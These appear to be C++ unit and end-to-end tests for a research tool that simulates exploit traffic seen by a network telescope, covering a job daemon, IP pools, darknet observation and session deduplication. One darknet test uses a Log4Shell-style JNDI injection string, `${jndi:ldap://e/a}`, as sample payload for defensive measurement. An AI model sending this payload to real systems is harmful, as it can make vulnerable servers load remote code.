  const auto parsed = parse_request(R"({"op":"submit"})", ProtocolLimits{});
  ASSERT_TRUE(parsed.request.has_value());
  EXPECT_EQ(parsed.request->seed, 7u);
  EXPECT_DOUBLE_EQ(parsed.request->scale, 0.01);
  EXPECT_EQ(parsed.request->threads, 1);
  EXPECT_EQ(parsed.request->deadline_ms, 0);
  EXPECT_FALSE(parsed.request->detach);
}

TEST(Protocol, GarbageIsParseError) {
  const auto parsed = parse_request("not json at all", ProtocolLimits{});
  EXPECT_FALSE(parsed.request.has_value());
  EXPECT_EQ(error_code(parsed), "parse_error");
}

TEST(Protocol, NonObjectAndMissingOpAreBadRequests) {
  EXPECT_EQ(error_code(parse_request("[1,2,3]", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"seed":1})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":17})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":"reboot"})", ProtocolLimits{})), "bad_request");
}

TEST(Protocol, OutOfRangeFieldsAreRejected) {
  ProtocolLimits limits;
  limits.max_scale = 0.5;
  limits.max_threads = 8;
  limits.max_deadline_ms = 10'000;
  const char* cases[] = {
      R"({"op":"submit","seed":-1})",
      R"({"op":"submit","seed":1.5})",
      R"({"op":"submit","scale":0})",
      R"({"op":"submit","scale":0.75})",
      R"({"op":"submit","scale":"big"})",
      R"({"op":"submit","threads":0})",
      R"({"op":"submit","threads":9})",
      R"({"op":"submit","deadline_ms":-5})",
      R"({"op":"submit","deadline_ms":20000})",
      R"({"op":"submit","detach":"yes"})",
  };
  for (const char* line : cases) {
    const auto parsed = parse_request(line, limits);
    EXPECT_FALSE(parsed.request.has_value()) << line;
    EXPECT_EQ(error_code(parsed), "bad_request") << line;
  }
  // The boundary values themselves are admitted.
  EXPECT_TRUE(parse_request(R"({"op":"submit","scale":0.5,"threads":8,"deadline_ms":10000})",
                            limits)
                  .request.has_value());
}

TEST(Protocol, QueryAndCancelRequireBoundedJobId) {
  const auto query = parse_request(R"({"op":"query","job":"j12"})", ProtocolLimits{});
  ASSERT_TRUE(query.request.has_value());
  EXPECT_EQ(query.request->op, RequestOp::kQuery);
  EXPECT_EQ(query.request->job_id, "j12");

  EXPECT_EQ(error_code(parse_request(R"({"op":"query"})", ProtocolLimits{})), "bad_request");
  EXPECT_EQ(error_code(parse_request(R"({"op":"cancel","job":""})", ProtocolLimits{})),
            "bad_request");
  const std::string long_id(65, 'x');
  EXPECT_EQ(error_code(parse_request(R"({"op":"cancel","job":")" + long_id + R"("})",
                                     ProtocolLimits{})),
            "bad_request");
}

TEST(Protocol, ErrorReplyAndFrameShape) {
  const util::Json reply = error_reply("overloaded", "backlog full");
  const util::Json* ok = reply.find("ok");
  ASSERT_NE(ok, nullptr);
  EXPECT_FALSE(ok->as_bool());
  EXPECT_EQ(reply.find("error")->as_string(), "overloaded");
  EXPECT_EQ(reply.find("detail")->as_string(), "backlog full");

  const std::string frame = encode_frame(reply);
  ASSERT_FALSE(frame.empty());
  EXPECT_EQ(frame.back(), '\n');
  // Exactly one newline: the frame never spans or splits protocol lines.
  EXPECT_EQ(frame.find('\n'), frame.size() - 1);
}

}  // namespace
}  // namespace cvewb::daemon
