// End-to-end daemon contract over real sockets: an in-process Server on an
// ephemeral port, blocking test clients, and the three properties the
// service must never trade away --
//
//   1. determinism: the digest a job reports over the wire is
//      byte-identical to running the same study in-process, for every
//      seed x thread combination, including under injected socket faults;
//   2. bounded admission: K capacity + N excess submissions produce
//      exactly N structured `overloaded` rejections and no accepted job
//      is ever dropped;
//   3. robustness: disconnects cancel owned jobs, oversized frames and
//      idle connections are refused in bounded memory, and a drain
//      leaves journaled state a restarted daemon resumes to the same
//      digest.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "cache/serialize.h"
#include "daemon/server.h"
#include "pipeline/study.h"
#include "util/sha256.h"

namespace cvewb::daemon {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;

/// Blocking newline-framed JSON client against 127.0.0.1:port.
class TestClient {
 public:
  ~TestClient() { close(); }

  bool connect_to(std::uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0) return false;
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
    return ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  }

  bool send_raw(std::string_view bytes) {
    std::size_t sent = 0;
    while (sent < bytes.size()) {
      const auto n = ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<std::size_t>(n);
    }
    return true;
  }

  /// One newline-terminated frame; nullopt on EOF / error.
  std::optional<std::string> read_line() {
    for (;;) {
      const auto newline = buf_.find('\n');
      if (newline != std::string::npos) {
        std::string line = buf_.substr(0, newline);
        buf_.erase(0, newline + 1);
        return line;
      }
      char chunk[4096];
      const auto n = ::recv(fd_, chunk, sizeof chunk, 0);
      if (n <= 0) return std::nullopt;
      buf_.append(chunk, static_cast<std::size_t>(n));
    }
  }

  std::optional<util::Json> round_trip(const util::Json& request) {
    if (!send_raw(request.dump() + "\n")) return std::nullopt;
    const auto line = read_line();
    if (!line) return std::nullopt;
    std::string error;
    auto doc = util::parse_json(*line, error);
    if (!doc) return std::nullopt;
    return std::move(*doc);
  }

  void close() {
    if (fd_ >= 0) ::close(fd_);
    fd_ = -1;
  }

  int fd() const { return fd_; }

 private:
  int fd_ = -1;
  std::string buf_;
};

util::Json submit_frame(std::uint64_t seed, double scale, int threads) {
  util::Json frame;
  frame.set("op", util::Json("submit"));
  frame.set("seed", util::Json(static_cast<std::int64_t>(seed)));
  frame.set("scale", util::Json(scale));
  frame.set("threads", util::Json(static_cast<std::int64_t>(threads)));
  return frame;
}

util::Json query_frame(const std::string& job) {
  util::Json frame;
  frame.set("op", util::Json("query"));
  frame.set("job", util::Json(job));
  return frame;
}

std::string str(const util::Json& doc, std::string_view key) {
  const util::Json* value = doc.find(key);
  return value != nullptr && value->type() == util::Json::Type::kString ? value->as_string()
                                                                        : std::string();
}

bool ok(const util::Json& doc) {
  const util::Json* value = doc.find("ok");
  return value != nullptr && value->as_bool();
}

/// Server on an ephemeral port with its event loop on a background thread.
class LiveServer {
 public:
  explicit LiveServer(ServerConfig config) : server_(std::move(config)) {
    EXPECT_TRUE(server_.start());
    thread_ = std::thread([this] { server_.run(); });
  }

  ~LiveServer() { stop(); }

  void stop() {
    if (!thread_.joinable()) return;
    server_.request_shutdown();
    thread_.join();
  }

  std::uint16_t port() const { return server_.port(); }
  Server& server() { return server_; }

 private:
  Server server_;
  std::thread thread_;
};

ServerConfig fast_config() {
  ServerConfig config;
  config.poll_interval = milliseconds(5);
  config.scheduler.workers = 2;
  config.scheduler.backlog_capacity = 16;
  return config;
}

std::string reference_digest(std::uint64_t seed, double scale) {
  pipeline::StudyConfig config;
  config.seed = seed;
  config.event_scale = scale;
  const pipeline::StudyResult result = pipeline::run_study(config);
  return util::sha256_hex(cache::encode_study_result(result));
}

/// Submit over the wire, poll to terminal, return the final status reply.
util::Json run_to_terminal(TestClient& client, std::uint64_t seed, double scale, int threads) {
  const auto admitted = client.round_trip(submit_frame(seed, scale, threads));
  EXPECT_TRUE(admitted && ok(*admitted)) << (admitted ? admitted->dump() : "no reply");
  const std::string job = str(*admitted, "job");
  const auto give_up = steady_clock::now() + std::chrono::minutes(2);
  for (;;) {
    const auto status = client.round_trip(query_frame(job));
    EXPECT_TRUE(status.has_value());
    if (!status) return util::Json();
    const std::string state = str(*status, "state");
    if (state != "queued" && state != "running") return *status;
    EXPECT_LT(steady_clock::now(), give_up) << "job " << job << " never reached terminal state";
    std::this_thread::sleep_for(milliseconds(10));
  }
}

constexpr double kScale = 0.005;

// Property 1: the daemon is a determinism-preserving wrapper.  Three
// seeds, one and four threads each, all six digests equal the in-process
// reference for their seed.
TEST(DaemonE2E, GoldenDigestsMatchInProcessStudy) {
  LiveServer live(fast_config());
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));
  for (const std::uint64_t seed : {3ULL, 7ULL, 11ULL}) {
    const std::string reference = reference_digest(seed, kScale);
    for (const int threads : {1, 4}) {
      const util::Json status = run_to_terminal(client, seed, kScale, threads);
      ASSERT_EQ(str(status, "state"), "complete") << status.dump();
      EXPECT_EQ(str(status, "digest"), reference)
          << "seed " << seed << " threads " << threads;
    }
  }
}

// Property 1 under chaos: short reads, short writes, and stalls fragment
// every frame in both directions, and the digest still matches.
TEST(DaemonE2E, GoldenDigestSurvivesSocketFaults) {
  ServerConfig config = fast_config();
  config.fault_plan.seed = 9;
  config.fault_plan.short_read_rate = 0.4;
  config.fault_plan.short_write_rate = 0.4;
  config.fault_plan.stall_rate = 0.2;
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  const std::string reference = reference_digest(7, kScale);
  const util::Json status = run_to_terminal(client, 7, kScale, 2);
  ASSERT_EQ(str(status, "state"), "complete") << status.dump();
  EXPECT_EQ(str(status, "digest"), reference);

  const SocketFaultStats faults = live.server().io().stats();
  EXPECT_GT(faults.injected_total(), 0u) << "fault plan never fired -- test proves nothing";
}

// Injected resets kill the victim connection and nothing else: a fresh
// connection resubmits and completes with the right digest.
TEST(DaemonE2E, ResetVictimReconnectsAndResubmits) {
  ServerConfig config = fast_config();
  config.fault_plan.seed = 4;
  config.fault_plan.reset_rate = 0.05;
  LiveServer live(config);

  const std::string reference = reference_digest(7, kScale);
  const auto give_up = steady_clock::now() + std::chrono::minutes(2);
  for (;;) {
    ASSERT_LT(steady_clock::now(), give_up) << "no attempt survived the reset plan";
    TestClient client;
    ASSERT_TRUE(client.connect_to(live.port()));
    const auto admitted = client.round_trip(submit_frame(7, kScale, 1));
    if (!admitted || !ok(*admitted)) continue;  // reset mid-submit: reconnect
    const std::string job = str(*admitted, "job");
    std::optional<util::Json> status;
    bool lost = false;
    for (;;) {
      status = client.round_trip(query_frame(job));
      if (!status) {
        lost = true;  // reset mid-poll; job was cancelled with the connection
        break;
      }
      const std::string state = str(*status, "state");
      if (state != "queued" && state != "running") break;
      std::this_thread::sleep_for(milliseconds(10));
    }
    if (lost) continue;
    const std::string state = str(*status, "state");
    if (state == "complete") {
      EXPECT_EQ(str(*status, "digest"), reference);
      break;
    }
    // Cancelled by a reset racing completion: try again on a new connection.
  }
}

// Property 2: exact admission arithmetic over the wire.  Workers frozen at
// zero so nothing dequeues: K submissions are admitted, the next N all
// come back as structured `overloaded` rejections with a Retry-After
// hint, and every admitted job is still queryable (none dropped).
TEST(DaemonE2E, OverloadRejectsExactlyTheExcess) {
  constexpr int kCapacity = 4;
  constexpr int kExcess = 5;
  ServerConfig config = fast_config();
  config.scheduler.workers = 0;
  config.scheduler.backlog_capacity = kCapacity;
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  std::vector<std::string> admitted_jobs;
  int rejected = 0;
  for (int i = 0; i < kCapacity + kExcess; ++i) {
    const auto reply = client.round_trip(submit_frame(7, 0.01, 1));
    ASSERT_TRUE(reply.has_value());
    if (ok(*reply)) {
      admitted_jobs.push_back(str(*reply, "job"));
      continue;
    }
    ++rejected;
    EXPECT_EQ(str(*reply, "error"), "overloaded");
    const util::Json* retry_after = reply->find("retry_after_ms");
    ASSERT_NE(retry_after, nullptr) << reply->dump();
    EXPECT_GT(retry_after->as_int64(), 0);
  }
  EXPECT_EQ(admitted_jobs.size(), static_cast<std::size_t>(kCapacity));
  EXPECT_EQ(rejected, kExcess);
  for (const std::string& job : admitted_jobs) {
    const auto status = client.round_trip(query_frame(job));
    ASSERT_TRUE(status.has_value());
    EXPECT_EQ(str(*status, "state"), "queued") << "accepted job dropped: " << job;
  }
}

// Property 3a: mass disconnect cancels every owned job -- zero leaked.
TEST(DaemonE2E, MassDisconnectLeavesZeroJobs) {
  constexpr int kClients = 6;
  ServerConfig config = fast_config();
  config.scheduler.workers = 0;  // jobs stay queued until the disconnect cancels them
  config.scheduler.backlog_capacity = 2 * kClients;
  LiveServer live(config);

  for (int i = 0; i < kClients; ++i) {
    TestClient client;
    ASSERT_TRUE(client.connect_to(live.port()));
    const auto reply = client.round_trip(submit_frame(7, 0.01, 1));
    ASSERT_TRUE(reply && ok(*reply)) << i;
    client.close();  // owned job loses its reason to exist
  }

  TestClient control;
  ASSERT_TRUE(control.connect_to(live.port()));
  util::Json stats_frame;
  stats_frame.set("op", util::Json("stats"));
  const auto give_up = steady_clock::now() + std::chrono::seconds(30);
  for (;;) {
    const auto stats = control.round_trip(stats_frame);
    ASSERT_TRUE(stats.has_value());
    const std::int64_t queued = stats->find("queued")->as_int64();
    const std::int64_t running = stats->find("running")->as_int64();
    if (queued == 0 && running == 0) {
      EXPECT_GE(stats->find("cancelled")->as_int64(), kClients);
      break;
    }
    ASSERT_LT(steady_clock::now(), give_up)
        << "jobs leaked after mass disconnect: " << stats->dump();
    std::this_thread::sleep_for(milliseconds(10));
  }
}

// Property 3b: a frame with no newline inside the cap gets a structured
// frame_too_large reply, then the connection is closed -- bounded memory
// against a client that just keeps typing.
TEST(DaemonE2E, OversizedFrameIsRefusedStructurally) {
  ServerConfig config = fast_config();
  config.max_frame_bytes = 256;
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  ASSERT_TRUE(client.send_raw(std::string(2048, 'x')));  // no newline ever
  const auto reply = client.read_line();
  ASSERT_TRUE(reply.has_value());
  std::string error;
  const auto doc = util::parse_json(*reply, error);
  ASSERT_TRUE(doc.has_value()) << error;
  EXPECT_EQ(str(*doc, "error"), "frame_too_large");
  EXPECT_FALSE(client.read_line().has_value());  // then EOF
}

// Property 3c: a silent connection is closed at the idle timeout (the
// slow-loris defence) and counted.
TEST(DaemonE2E, IdleConnectionTimesOut) {
  ServerConfig config = fast_config();
  config.idle_timeout = milliseconds(100);
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  const auto start = steady_clock::now();
  EXPECT_FALSE(client.read_line().has_value());  // blocks until the server closes us
  EXPECT_GE(steady_clock::now() - start, milliseconds(50));
  live.stop();
  EXPECT_GE(live.server().stats().idle_timeouts, 1u);
}

// Property 3d: drain checkpoints, restart resumes.  A daemon is
// shut down mid-study; a second daemon on the same cache dir accepts the
// resubmission and converges to the reference digest.
TEST(DaemonE2E, DrainThenRestartResumesToIdenticalDigest) {
  const std::string cache_dir =
      (std::filesystem::path(::testing::TempDir()) / "cvewbd_e2e_cache").string();
  std::filesystem::remove_all(cache_dir);
  const std::uint64_t kSeed = 13;
  const double kDrainScale = 0.02;

  {
    ServerConfig config = fast_config();
    config.scheduler.cache_dir = cache_dir;
    LiveServer live(config);
    TestClient client;
    ASSERT_TRUE(client.connect_to(live.port()));
    const auto admitted = client.round_trip(submit_frame(kSeed, kDrainScale, 1));
    ASSERT_TRUE(admitted && ok(*admitted)) << (admitted ? admitted->dump() : "no reply");
    // Shut down while the study is (most likely) in flight; the drain
    // fires its token and the journal keeps whatever stages completed.
    live.stop();
  }

  ServerConfig config = fast_config();
  config.scheduler.cache_dir = cache_dir;
  LiveServer live(config);
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));
  const util::Json status = run_to_terminal(client, kSeed, kDrainScale, 1);
  ASSERT_EQ(str(status, "state"), "complete") << status.dump();
  EXPECT_EQ(str(status, "digest"), reference_digest(kSeed, kDrainScale));
  std::filesystem::remove_all(cache_dir);
}

// Ping and stats round-trip; unknown job ids come back structured.
TEST(DaemonE2E, PingStatsAndUnknownJob) {
  LiveServer live(fast_config());
  TestClient client;
  ASSERT_TRUE(client.connect_to(live.port()));

  util::Json ping;
  ping.set("op", util::Json("ping"));
  const auto pong = client.round_trip(ping);
  ASSERT_TRUE(pong.has_value());
  EXPECT_TRUE(ok(*pong));

  const auto missing = client.round_trip(query_frame("j424242"));
  ASSERT_TRUE(missing.has_value());
  EXPECT_EQ(str(*missing, "error"), "not_found");

  util::Json stats_frame;
  stats_frame.set("op", util::Json("stats"));
  const auto stats = client.round_trip(stats_frame);
  ASSERT_TRUE(stats.has_value());
  EXPECT_TRUE(ok(*stats));
  EXPECT_EQ(stats->find("connections")->as_int64(), 1);
}

}  // namespace
}  // namespace cvewb::daemon
