#include "telescope/ip_pool.h"

#include <gtest/gtest.h>

#include <set>

namespace cvewb::telescope {
namespace {

TEST(IpPool, AddressesStayInsidePrefixes) {
  const IpPool pool = IpPool::aws_like(100000);
  for (std::uint64_t i = 0; i < pool.size(); i += 997) {
    EXPECT_TRUE(pool.contains(pool.address_at(i)));
  }
}

TEST(IpPool, VirtualSizeClampedToCapacity) {
  const IpPool small(std::vector<net::Prefix>{*net::Prefix::parse("10.0.0.0/24")}, 1000000);
  EXPECT_EQ(small.size(), 256u);
  EXPECT_EQ(small.prefix_capacity(), 256u);
}

TEST(IpPool, DistinctIndicesYieldDistinctAddressesInSmallPool) {
  const IpPool pool(std::vector<net::Prefix>{*net::Prefix::parse("10.0.0.0/22")}, 1024);
  std::set<std::uint32_t> seen;
  for (std::uint64_t i = 0; i < pool.size(); ++i) {
    EXPECT_TRUE(seen.insert(pool.address_at(i).value()).second) << i;
  }
}

TEST(IpPool, SpreadsAcrossPrefixes) {
  const IpPool pool = IpPool::aws_like(1000000);
  std::set<std::uint32_t> top_octets;
  for (std::uint64_t i = 0; i < pool.size(); i += 1000) {
    top_octets.insert(pool.address_at(i).value() >> 24);
  }
  EXPECT_GE(top_octets.size(), 4u);  // multiple provider blocks in use
}

TEST(IpPool, Errors) {
  EXPECT_THROW(IpPool({}, 10), std::invalid_argument);
  const IpPool pool(std::vector<net::Prefix>{*net::Prefix::parse("10.0.0.0/30")}, 4);
  EXPECT_THROW(pool.address_at(4), std::out_of_range);
}

TEST(IpPool, ContainsRejectsOutsiders) {
  const IpPool pool = IpPool::aws_like(1000);
  EXPECT_FALSE(pool.contains(net::IPv4(192, 168, 0, 1)));
}

TEST(IpPool, OffsetOfIsConsistentWithAddressAt) {
  const IpPool pool = IpPool::aws_like(50000);
  // address_at places index at offset index * floor(capacity / size).
  const std::uint64_t spread = pool.prefix_capacity() / pool.size();
  for (std::uint64_t index = 0; index < pool.size(); index += 997) {
    const auto offset = pool.offset_of(pool.address_at(index));
    ASSERT_TRUE(offset.has_value()) << index;
    EXPECT_EQ(*offset, index * spread) << index;
  }
  EXPECT_FALSE(pool.offset_of(net::IPv4(192, 168, 0, 1)).has_value());
}

TEST(IpPool, OffsetsAreDenseAndOrderedAcrossPrefixes) {
  const IpPool pool(std::vector<net::Prefix>{*net::Prefix::parse("10.0.0.0/30"),
                                             *net::Prefix::parse("172.16.0.0/30")},
                    8);
  EXPECT_EQ(*pool.offset_of(net::IPv4(10, 0, 0, 0)), 0u);
  EXPECT_EQ(*pool.offset_of(net::IPv4(10, 0, 0, 3)), 3u);
  EXPECT_EQ(*pool.offset_of(net::IPv4(172, 16, 0, 0)), 4u);
  EXPECT_EQ(*pool.offset_of(net::IPv4(172, 16, 0, 3)), 7u);
}

}  // namespace
}  // namespace cvewb::telescope
