#include "telescope/darknet.h"

#include <gtest/gtest.h>

#include "ids/matcher.h"
#include "ids/rule_gen.h"
#include "pipeline/study.h"

namespace cvewb::telescope {
namespace {

TEST(Darknet, ObservesOnlyInPrefixAndStripsPayload) {
  const Darknet darknet(*net::Prefix::parse("10.0.0.0/8"));
  net::TcpSession inside;
  inside.dst = net::IPv4(10, 1, 2, 3);
  inside.src = net::IPv4(198, 51, 100, 1);
  inside.dst_port = 8090;
  inside.payload = "GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\n\r\n";
  DarknetObservation observation;
  ASSERT_TRUE(darknet.observe(inside, observation));
  EXPECT_EQ(observation.dst_port, 8090);
  EXPECT_EQ(observation.src, inside.src);

  net::TcpSession outside = inside;
  outside.dst = net::IPv4(11, 0, 0, 1);
  EXPECT_FALSE(darknet.observe(outside, observation));
}

TEST(Darknet, CannotIdentifyAnyCve) {
  // The §3.1 argument made concrete: the same exploit traffic without
  // application-layer capture matches zero signatures.
  pipeline::StudyConfig config;
  config.seed = 11;
  config.event_scale = 0.01;
  config.background_per_day = 2.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  const auto dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  internet.background_per_day = config.background_per_day;
  const auto traffic = traffic::generate_traffic(dscope, internet);

  // Observe everything the interactive telescope saw, passively.
  Darknet darknet(net::Prefix(net::IPv4(0, 0, 0, 0), 0));
  const auto observations = darknet.observe_all(traffic.sessions);
  EXPECT_EQ(observations.size(), traffic.sessions.size());

  // Reconstruct sessions from darknet data (payloadless) and run the IDS.
  std::vector<net::TcpSession> stripped;
  for (const auto& obs : observations) {
    net::TcpSession s;
    s.open_time = obs.time;
    s.src = obs.src;
    s.dst = obs.dst;
    s.dst_port = obs.dst_port;
    stripped.push_back(std::move(s));
  }
  const ids::Matcher matcher(ids::generate_study_ruleset().rules());
  std::size_t matched = 0;
  for (const auto& s : stripped) {
    matched += matcher.earliest_published_match(s) != nullptr ? 1 : 0;
  }
  EXPECT_EQ(matched, 0u);

  // Interactive capture of the same traffic identifies most studied CVEs.
  const auto reconstruction =
      pipeline::reconstruct(traffic.sessions, ids::generate_study_ruleset());
  EXPECT_GT(reconstruction.timelines.size(), 50u);
}

}  // namespace
}  // namespace cvewb::telescope
