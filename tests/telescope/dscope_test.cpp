#include "telescope/dscope.h"

#include <gtest/gtest.h>

#include <set>

#include "data/appendix_e.h"

namespace cvewb::telescope {
namespace {

DscopeConfig small_config() {
  DscopeConfig config;
  config.lanes = 10;
  config.lifetime = util::Duration::minutes(10);
  config.begin = data::study_begin();
  config.end = data::study_end();
  config.seed = 99;
  return config;
}

class DscopeTest : public ::testing::Test {
 protected:
  Dscope dscope_{small_config(), IpPool::aws_like(100000)};
};

TEST_F(DscopeTest, SlotBoundaries) {
  const auto begin = data::study_begin();
  EXPECT_EQ(dscope_.slot_of(begin), 0);
  EXPECT_EQ(dscope_.slot_of(begin + util::Duration::minutes(10) - util::Duration(1)), 0);
  EXPECT_EQ(dscope_.slot_of(begin + util::Duration::minutes(10)), 1);
  EXPECT_EQ(dscope_.slot_of(begin - util::Duration(1)), -1);  // floor, not truncation
}

TEST_F(DscopeTest, InstanceLifetimeIsTenMinutes) {
  const Instance inst = dscope_.instance_at(3, data::study_begin() + util::Duration::hours(5));
  EXPECT_EQ((inst.end - inst.start).total_seconds(), 600);
  EXPECT_TRUE(inst.active_at(inst.start));
  EXPECT_FALSE(inst.active_at(inst.end));
}

TEST_F(DscopeTest, ScheduleIsDeterministic) {
  const Dscope again(small_config(), IpPool::aws_like(100000));
  const auto t = data::study_begin() + util::Duration::days(100);
  for (int lane = 0; lane < 10; ++lane) {
    EXPECT_EQ(dscope_.instance_at(lane, t).ip, again.instance_at(lane, t).ip);
  }
}

TEST_F(DscopeTest, ChurnChangesAddresses) {
  // Across consecutive slots a lane almost always lands on a new IP.
  const auto t0 = data::study_begin();
  int changed = 0;
  for (int slot = 0; slot < 50; ++slot) {
    const auto a = dscope_.instance_at(0, t0 + util::Duration::minutes(10 * slot));
    const auto b = dscope_.instance_at(0, t0 + util::Duration::minutes(10 * (slot + 1)));
    changed += a.ip != b.ip ? 1 : 0;
  }
  EXPECT_GE(changed, 49);
}

TEST_F(DscopeTest, ManyUniqueIpsOverTime) {
  // The telescope touches a large slice of the pool over the study
  // (the paper's 5 M unique IPs at full scale).
  std::set<std::uint32_t> ips;
  const auto t0 = data::study_begin();
  for (int slot = 0; slot < 1000; ++slot) {
    for (int lane = 0; lane < 10; ++lane) {
      ips.insert(dscope_.instance_at(lane, t0 + util::Duration::minutes(10 * slot)).ip.value());
    }
  }
  EXPECT_GT(ips.size(), 9000u);  // ~10k slots, mostly distinct addresses
}

TEST_F(DscopeTest, SampleActiveReturnsLiveInstance) {
  util::Rng rng(1);
  const auto t = data::study_begin() + util::Duration::days(30);
  for (int i = 0; i < 100; ++i) {
    const Instance inst = dscope_.sample_active(t, rng);
    EXPECT_TRUE(inst.active_at(t));
    EXPECT_TRUE(dscope_.pool().contains(inst.ip));
  }
}

TEST_F(DscopeTest, HolderOfFindsSampledInstance) {
  util::Rng rng(2);
  const auto t = data::study_begin() + util::Duration::days(200);
  const Instance inst = dscope_.sample_active(t, rng);
  const auto holder = dscope_.holder_of(inst.ip, t);
  ASSERT_TRUE(holder.has_value());
  EXPECT_EQ(holder->lane, inst.lane);
  EXPECT_FALSE(dscope_.holder_of(net::IPv4(192, 168, 1, 1), t).has_value());
}

TEST_F(DscopeTest, PhysicalCaptureFractionMatchesGeometry) {
  // Property: a random pool address is held by the telescope with
  // probability ~ lanes / pool size.
  util::Rng rng(3);
  const double pool_size = 20000;
  const Dscope dense(small_config(), IpPool::aws_like(static_cast<std::uint64_t>(pool_size)));
  int captured = 0;
  const int trials = 20000;
  for (int i = 0; i < trials; ++i) {
    const auto t = data::study_begin() + util::Duration(rng.uniform_int(0, 86400 * 700));
    const net::IPv4 target = dense.pool().address_at(rng.uniform_u64(dense.pool().size()));
    captured += dense.holder_of(target, t).has_value() ? 1 : 0;
  }
  const double expected = 10.0 / pool_size;
  const double observed = static_cast<double>(captured) / trials;
  EXPECT_NEAR(observed, expected, expected * 0.8);
}

TEST_F(DscopeTest, TotalInstanceSlots) {
  // 730 days * 144 slots/day * 10 lanes.
  EXPECT_EQ(dscope_.total_instance_slots(), 730LL * 144 * 10);
}

TEST(DscopeValidation, RejectsBadConfig) {
  DscopeConfig bad = small_config();
  bad.lanes = 0;
  EXPECT_THROW(Dscope(bad, IpPool::aws_like(1000)), std::invalid_argument);
  bad = small_config();
  bad.end = bad.begin;
  EXPECT_THROW(Dscope(bad, IpPool::aws_like(1000)), std::invalid_argument);
}

net::TcpSession make_session(std::int64_t t, std::uint32_t src, std::uint32_t dst,
                             std::uint16_t sport, std::uint16_t dport, std::string payload) {
  net::TcpSession s;
  s.open_time = util::TimePoint(t);
  s.src = net::IPv4(src);
  s.dst = net::IPv4(dst);
  s.src_port = sport;
  s.dst_port = dport;
  s.payload = std::move(payload);
  return s;
}

TEST(SessionStore, DedupKeepsFirstOccurrenceStable) {
  SessionStore store;
  store.add(make_session(100, 1, 2, 10, 80, "alpha"));
  store.add(make_session(100, 1, 2, 10, 80, "alpha"));  // exact duplicate
  store.add(make_session(100, 1, 2, 10, 80, "beta"));   // same tuple, new payload
  store.add(make_session(200, 1, 2, 10, 80, "alpha"));  // same record, later time
  store.add(make_session(100, 1, 2, 10, 80, "alpha"));  // duplicate again
  EXPECT_EQ(store.dedup(), 2u);
  ASSERT_EQ(store.size(), 3u);
  // Stable: first occurrences retained in insertion order, and the kept
  // duplicate is the first one added (id 0, not 1 or 4).
  EXPECT_EQ(store.sessions()[0].id, 0u);
  EXPECT_EQ(store.sessions()[1].payload, "beta");
  EXPECT_EQ(store.sessions()[2].open_time, util::TimePoint(200));
  EXPECT_EQ(store.dedup(), 0u);  // idempotent
}

TEST(SessionStore, SortByTimeTieBreaksDeterministically) {
  // Two stores fed the same records in opposite orders must sort to the
  // same sequence, even with equal timestamps and duplicated ids.
  std::vector<net::TcpSession> records = {
      make_session(100, 9, 2, 10, 80, "zz"), make_session(100, 1, 2, 10, 80, "aa"),
      make_session(100, 1, 2, 10, 80, "ab"), make_session(100, 1, 3, 10, 80, "aa"),
      make_session(50, 7, 7, 7, 7, "x"),
  };
  SessionStore forward;
  SessionStore backward;
  for (const auto& r : records) forward.add(r);
  for (auto it = records.rbegin(); it != records.rend(); ++it) backward.add(*it);
  // add() assigns ids by insertion order, so the same record carries a
  // *different* id in the two stores -- the sort must agree anyway because
  // the record identity (time, 5-tuple, payload) is compared before id.
  forward.sort_by_time();
  backward.sort_by_time();
  ASSERT_EQ(forward.size(), backward.size());
  for (std::size_t i = 0; i < forward.size(); ++i) {
    const auto& a = forward.sessions()[i];
    const auto& b = backward.sessions()[i];
    EXPECT_EQ(a.open_time, b.open_time) << i;
    EXPECT_EQ(a.src.value(), b.src.value()) << i;
    EXPECT_EQ(a.dst.value(), b.dst.value()) << i;
    EXPECT_EQ(a.payload, b.payload) << i;
  }
  EXPECT_EQ(forward.sessions()[0].open_time, util::TimePoint(50));
  EXPECT_EQ(forward.sessions()[1].payload, "aa");  // (100,1,2) before (100,1,3), (100,9,..)
  EXPECT_EQ(forward.sessions()[2].payload, "ab");
}

TEST(SessionStore, StatsAndOrdering) {
  SessionStore store;
  net::TcpSession a;
  a.open_time = util::TimePoint(200);
  a.src = net::IPv4(1, 1, 1, 1);
  a.dst = net::IPv4(2, 2, 2, 2);
  net::TcpSession b;
  b.open_time = util::TimePoint(100);
  b.src = net::IPv4(1, 1, 1, 1);
  b.dst = net::IPv4(3, 3, 3, 3);
  store.add(a);
  store.add(b);
  EXPECT_EQ(store.unique_sources(), 1u);
  EXPECT_EQ(store.unique_destinations(), 2u);
  store.sort_by_time();
  EXPECT_EQ(store.sessions()[0].open_time, util::TimePoint(100));
}

}  // namespace
}  // namespace cvewb::telescope
