#include "stats/summary.h"

#include <gtest/gtest.h>

namespace cvewb::stats {
namespace {

TEST(Summary, BasicMoments) {
  const Summary s = summarize({2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0});
  EXPECT_EQ(s.n, 8u);
